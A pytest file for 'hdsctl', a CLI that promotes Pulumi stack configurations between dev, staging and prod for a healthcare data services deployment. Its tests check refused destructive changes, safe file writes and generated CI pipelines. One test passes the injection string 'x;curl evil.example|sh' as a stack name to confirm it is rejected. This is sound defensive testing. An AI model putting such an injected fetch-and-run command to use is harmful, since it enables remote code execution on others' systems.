"""Promotion and file safety: what a promotion must never do, and files that are never lost."""

from __future__ import annotations

import errno
import json
import os
import shutil
import subprocess
import sys

import pytest
import yaml
from conftest import REPO, STACKS, index_prod_like_staging

from hdsctl.environment.load import load_environment
from hdsctl.errors import EXIT_BAD_INPUT, EXIT_FAILED, EXIT_OK


@pytest.fixture
def stacks(tmp_path):
    folder = tmp_path / "stacks"
    shutil.copytree(STACKS, folder)
    index_prod_like_staging(folder)
    return folder


def run(run_cli, stacks, *args):
    return run_cli("--stacks-dir", str(stacks), *args)


def replace_in(path, old, new):
    text = path.read_text()
    assert old in text, old
    path.write_text(text.replace(old, new, 1))


def effective(path):
    spec = load_environment(path).spec
    return {
        "workspace": spec.workspace.public_network_access,
        "dicom": {s.name: s.public_network_access for s in spec.dicom_services},
        "fhir": {s.name: (s.public_network_access, s.version_policy) for s in spec.fhir_services},
    }


def test_shipped_dev_to_staging_promotion_keeps_staging_private_and_its_version_policy(run_cli, stacks):
    staging = stacks / "Pulumi.staging.yaml"
    before = effective(staging)
    assert before["workspace"] == "Disabled"
    code, out, _ = run(run_cli, stacks, "promote", "--from", "dev", "--to", "staging", "--write")
    assert code == EXIT_OK, out
    assert effective(staging) == before
    assert "kept: fhir clinical: versionPolicy" in out and "--prune removes it" in out
    assert "publicNetworkAccess" not in out


def test_effective_values_are_compared_not_spellings(run_cli, stacks):
    """The target spells a field by its model name and states a default the source leaves out."""
    staging = stacks / "Pulumi.staging.yaml"
    replace_in(staging, "      versionPolicy:\n", "      version_policy:\n")
    replace_in(staging, "    - name: clinical\n", "    - name: clinical\n      kind: fhir-R4\n")
    code, out, _ = run(run_cli, stacks, "promote", "--from", "staging", "--to", "prod", "--json")
    assert code == EXIT_OK and json.loads(out)["changes"] == []
    code, out, _ = run(run_cli, stacks, "diff", "staging", "prod", "--json")
    assert json.loads(out)["changes"] == []


def test_a_default_the_source_relies_on_is_written_explicitly_only_where_it_differs(run_cli, stacks):
    replace_in(stacks / "Pulumi.staging.yaml", "    - name: clinical\n",
               "    - name: clinical\n      smartProxyEnabled: true\n")
    code, out, _ = run(run_cli, stacks, "promote", "--from", "dev", "--to", "staging", "--write")
    assert code == EXIT_OK, out
    assert "~ [settings] fhir clinical: smartProxyEnabled: True → False" in out
    written = yaml.safe_load((stacks / "Pulumi.staging.yaml").read_text())["config"]
    assert written["hdsctl:fhirServices"][0]["smartProxyEnabled"] is False


def test_creation_time_difference_is_refused_and_named(run_cli, stacks):
    staging = stacks / "Pulumi.staging.yaml"
    replace_in(staging, "      identity: {type: SystemAssigned}\n      cors:",
               "      identity: {type: SystemAssigned}\n      dataPartitions: true\n      cors:")
    before = staging.read_text()
    code, out, _ = run(run_cli, stacks, "promote", "--from", "dev", "--to", "staging", "--write")
    assert code == EXIT_FAILED
    assert ("not promoted: dicom radiology: dataPartitions True → False not promoted: would replace the "
            "service and lose its data") in out
    assert "REFUSED:" in out and "--allow-replace" in out
    assert staging.read_text() == before

    code, out, _ = run(run_cli, stacks, "promote", "--from", "dev", "--to", "staging", "--write",
                       "--allow-replace")
    assert code == EXIT_OK, out
    assert "~ [settings] dicom radiology: dataPartitions: True → False" in out
    assert load_environment(staging).spec.dicom_services[0].data_partitions is False


def test_removals_only_with_prune_and_never_the_deployers_grant(run_cli, stacks):
    staging = stacks / "Pulumi.staging.yaml"
    replace_in(staging, "        - {path: PatientSex, level: Study}\n",
               "        - {path: PatientSex, level: Study}\n        - {path: Manufacturer, level: Series}\n")
    replace_in(staging, "    - {role: FHIR Data Writer, principal: pacs-router, scope: clinical}\n",
               "    - {role: FHIR Data Writer, principal: pacs-router, scope: clinical}\n"
               "    - {role: FHIR Data Reader, principal: radiology-readers, scope: clinical}\n")
    replace_in(stacks / "Pulumi.dev.yaml",
               "    - {role: DICOM Data Owner, principal: deployer, scope: radiology, description: manages "
               "extended query tags}\n", "")
    code, out, _ = run(run_cli, stacks, "promote", "--from", "dev", "--to", "staging", "--write")
    assert code == EXIT_OK and "nothing to promote" in out
    assert "kept: dicom radiology: extended query tag 00080070 Manufacturer" in out
    assert "kept: roleAssignments: FHIR Data Reader for radiology-readers on clinical" in out
    assert "DICOM Data Owner for deployer on radiology" in out and "never pruned" in out

    code, out, _ = run(run_cli, stacks, "promote", "--from", "dev", "--to", "staging", "--write", "--prune")
    assert code == EXIT_OK, out
    assert "- [tags] dicom radiology: 00080070 Manufacturer" in out
    assert "- [bindings] roleAssignments: FHIR Data Reader for radiology-readers on clinical" in out
    assert "[settings] fhir clinical: versionPolicy" in out
    spec = load_environment(staging).spec
    assert "Manufacturer" not in [t.path for t in spec.dicom_services[0].extended_query_tags]
    assert any(a.principal == "deployer" for a in spec.role_assignments)


def test_refusal_names_what_is_introduced_and_lists_what_was_there(run_cli, stacks):
    prod = stacks / "Pulumi.prod.yaml"
    replace_in(prod, "  hdsctl:lock: true\n", "  hdsctl:lock: false\n")  # prod already fails the lock rule
    replace_in(stacks / "Pulumi.staging.yaml", "        - {path: PatientSex, level: Study}\n",
               "        - {path: PatientSex, level: Study}\n        - {path: Manufacturer, level: Series}\n")
    code, out, _ = run(run_cli, stacks, "promote", "--from", "staging", "--to", "prod")
    assert code == EXIT_OK, out
    assert "REFUSED" not in out
    assert "already present in prod (not introduced by this promotion):" in out
    assert "hds-workspace-delete-lock" in out.split("already present in prod")[1]


def test_crlf_and_byte_order_mark_survive_a_promotion(run_cli, stacks):
    prod = stacks / "Pulumi.prod.yaml"
    prod.write_bytes(b"\xef\xbb\xbf" + prod.read_bytes().replace(b"\n", b"\r\n"))
    replace_in(stacks / "Pulumi.staging.yaml", "        - {path: PatientSex, level: Study}\n",
               "        - {path: PatientSex, level: Study}\n        - {path: Manufacturer, level: Series}\n")
    code, out, _ = run(run_cli, stacks, "promote", "--from", "staging", "--to", "prod", "--write")
    assert code == EXIT_OK, out
    data = prod.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.count(b"\n") == data.count(b"\r\n") and b"Manufacturer" in data
    assert "Manufacturer" in [t.path for t in load_environment(prod).spec.dicom_services[0].extended_query_tags]


def test_yaml_references_in_promoted_keys_are_refused(run_cli, stacks):
    staging = stacks / "Pulumi.staging.yaml"
    replace_in(staging, "    - {role: DICOM Data Reader, principal: radiology-readers, scope: radiology}\n",
               "    - &reader {role: DICOM Data Reader, principal: radiology-readers, scope: radiology}\n")
    before = staging.read_text()
    code, _, err = run(run_cli, stacks, "promote", "--from", "dev", "--to", "staging", "--write")
    assert code == EXIT_BAD_INPUT
    assert "anchor &reader inside hdsctl:roleAssignments" in err and "line " in err
    assert staging.read_text() == before


def test_a_failed_write_leaves_the_old_file_intact(run_cli, stacks, monkeypatch):
    staging = stacks / "Pulumi.staging.yaml"
    before = staging.read_text()
    replace_in(stacks / "Pulumi.dev.yaml", "        - {path: PatientSex, level: Study}\n",
               "        - {path: PatientSex, level: Study}\n        - {path: Manufacturer, level: Series}\n")

    def disk_full(_descriptor):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(os, "fsync", disk_full)
    code, _, err = run(run_cli, stacks, "promote", "--from", "dev", "--to", "staging", "--write")
    assert code == EXIT_FAILED and "No space left on device" in err
    assert staging.read_text() == before
    assert sorted(p.name for p in stacks.iterdir()) == sorted(p.name for p in STACKS.iterdir())


def test_outputs_never_overwrite_a_stack_file_or_each_other(run_cli, stacks, tmp_path):
    prod = stacks / "Pulumi.prod.yaml"
    before = prod.read_text()
    program = str(REPO / "infra/__main__.py")
    code, _, err = run(run_cli, stacks, "preview", "--stack", "prod", "--program", program, "--json", str(prod))
    assert code == EXIT_BAD_INPUT and "refusing to overwrite a stack file" in err
    assert prod.read_text() == before
    same = tmp_path / "out.json"
    code, _, err = run(run_cli, stacks, "preview", "--stack", "dev", "--program", program,
                       "--json", str(same), "--sarif", str(same))
    assert code == EXIT_BAD_INPUT and "name the same file" in err and not same.exists()
    code, _, err = run(run_cli, stacks, "audit", "roles", "--stack", "prod", "--output", str(prod))
    assert code == EXIT_BAD_INPUT and prod.read_text() == before


@pytest.mark.parametrize("name", ["x;curl evil.example|sh", "Prod", "a--b", "-dev", "muchtoolongforanenv"])
def test_bad_stack_names_are_refused_and_never_reach_a_pipeline(run_cli, stacks, tmp_path, name):
    shutil.copy(stacks / "Pulumi.dev.yaml", stacks / f"Pulumi.{name}.yaml")
    code, out, err = run(run_cli, stacks, "validate", "--all")
    assert code == EXIT_BAD_INPUT and f"{name!r} is not a valid environment name" in err
    assert "ok  " in out  # the good stacks are still checked
    output = tmp_path / "repo"
    code, _, err = run(run_cli, stacks, "ci", "init", "--provider", "github", "--output", str(output))
    assert code == EXIT_BAD_INPUT and "not a valid environment name" in err
    assert not output.exists()


def test_stacks_whose_derived_names_collide_are_refused(run_cli, stacks):
    shutil.copy(stacks / "Pulumi.staging.yaml", stacks / "Pulumi.stag-ing.yaml")
    code, _, err = run(run_cli, stacks, "validate", "--all")
    assert code == EXIT_BAD_INPUT
    assert "workspace name 'stmarystaging' is derived by" in err


def test_ci_init_keeps_edited_pipeline_files_unless_forced(run_cli, stacks, tmp_path):
    output = tmp_path / "repo"
    assert run(run_cli, stacks, "ci", "init", "--provider", "github", "--output", str(output))[0] == EXIT_OK
    deploy = output / ".github/workflows/hdsctl-deploy.yml"
    assert run(run_cli, stacks, "ci", "init", "--provider", "github", "--output", str(output))[0] == EXIT_OK
    deploy.write_text(deploy.read_text() + "# our own tweak\n")
    code, _, err = run(run_cli, stacks, "ci", "init", "--provider", "github", "--output", str(output))
    assert code == EXIT_BAD_INPUT and "edited since hdsctl rendered them" in err and str(deploy) in err
    assert deploy.read_text().endswith("# our own tweak\n")
    code, _, _ = run(run_cli, stacks, "ci", "init", "--provider", "github", "--output", str(output), "--force")
    assert code == EXIT_OK and "# our own tweak" not in deploy.read_text()


def test_rendered_pipelines_fail_when_a_command_in_a_pipe_fails(run_cli, tmp_path):
    run_cli("--stacks-dir", str(STACKS), "ci", "init", "--provider", "github", "--output", str(tmp_path))
    run_cli("--stacks-dir", str(STACKS), "ci", "init", "--provider", "azure-devops", "--output", str(tmp_path))
    for workflow in (tmp_path / ".github/workflows").glob("*.yml"):
        assert yaml.safe_load(workflow.read_text())["defaults"] == {"run": {"shell": "bash"}}, workflow

    def scripts(node):
        if isinstance(node, dict):
            for key, value in node.items():
                if key in ("script", "inlineScript") and isinstance(value, str):
                    yield value
                else:
                    yield from scripts(value)
        elif isinstance(node, list):
            for item in node:
                yield from scripts(item)

    for pipeline in tmp_path.glob("azure-pipelines*.yml"):
        for script in scripts(yaml.safe_load(pipeline.read_text())):
            if "\n" in script.strip() or "|" in script:
                assert script.startswith("set -euo pipefail\n"), script


def test_rendered_github_workflows_pass_actionlint(run_cli, tmp_path):
    actionlint = shutil.which("actionlint", path=os.path.dirname(sys.executable))
    if actionlint is None:
        pytest.skip("actionlint is not installed (it comes with the dev dependencies)")
    run_cli("--stacks-dir", str(STACKS), "ci", "init", "--provider", "github", "--output", str(tmp_path))
    # shellcheck (also a dev dependency) lets actionlint check the run: scripts too.
    env = {**os.environ, "PATH": os.path.dirname(sys.executable) + os.pathsep + os.environ.get("PATH", "")}
    workflows = sorted(map(str, (tmp_path / ".github/workflows").glob("*.yml")))
    result = subprocess.run([actionlint, "-no-color", *workflows], capture_output=True, text=True, env=env)
    assert result.returncode == 0, result.stdout + result.stderr
